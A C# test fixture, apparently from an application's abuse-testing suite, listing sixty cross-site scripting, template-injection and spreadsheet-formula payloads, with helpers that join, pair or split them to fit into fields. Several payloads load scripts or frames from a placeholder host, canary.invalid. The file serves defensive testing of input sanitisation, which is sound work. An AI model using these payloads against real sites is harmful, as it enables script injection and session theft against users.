namespace CaseRoom.Testing.Abuse;

/// <summary>
/// Sixty texts that do something where a text is taken for markup, an address, a template or a formula: sound an alarm,
/// or ask a host that nobody owns.
/// </summary>
public static class ScriptPayloads
{
    /// <summary>A name that nothing resolves (RFC 2606).</summary>
    public const string Host = "canary.invalid";

    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>",
        "<script src=//canary.invalid/1.js></script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=//canary.invalid/2.png>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "\"><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href=\"//canary.invalid/3.svg#x\"/></svg>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=//canary.invalid/4></iframe>",
        "<object data=//canary.invalid/5></object>",
        "<embed src=//canary.invalid/6>",
        "<link rel=stylesheet href=//canary.invalid/7.css>",
        "<style>@import '//canary.invalid/8.css';</style>",
        "<div style=\"background:url(//canary.invalid/9)\">",
        "<base href=//canary.invalid/>",
        "<meta http-equiv=refresh content=\"0;url=//canary.invalid/10\">",
        "<form action=//canary.invalid/11><input type=submit autofocus onfocus=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<a href=javascript:alert(1)>a</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//",
        "java\u200bscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "` onload=alert(1) `",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "#{alert(1)}",
        "<%= alert(1) %>",
        "=HYPERLINK(\"//canary.invalid/12\",\"a\")",
        "![a](//canary.invalid/13.png)",
        "[a](javascript:alert(1))",
        "\");alert(1);//",
    ];

    /// <summary>Those that do something only where they begin a field: formulas and addresses.</summary>
    public static IReadOnlyList<string> Beginnings { get; } =
        [.. All.Where(payload => payload[0] == '=' || char.IsAsciiLetter(payload[0]))];

    /// <summary>All of them in one text, which a paragraph holds.</summary>
    public static string Together { get; } = string.Join(" ", All);

    /// <summary>The same, begun with one of <see cref="Beginnings"/>: another for every number.</summary>
    public static string BegunAt(int number)
    {
        var first = Beginnings[number % Beginnings.Count];
        return string.Join(" ", All.Where(payload => payload != first).Prepend(first));
    }

    /// <summary>Two by two, so that fields of which a room holds few take them all.</summary>
    public static IReadOnlyList<string> Pairs { get; } = [.. All.Chunk(2).Select(pair => string.Join(" ", pair))];

    /// <summary>All of them in as many texts as it takes of so many characters at most.</summary>
    public static IEnumerable<string> Within(int most)
    {
        var line = All[0];
        foreach (var payload in All.Skip(1))
        {
            if (line.Length + 1 + payload.Length <= most) { line += $" {payload}"; }
            else
            {
                yield return line;
                line = payload;
            }
        }

        yield return line;
    }
}
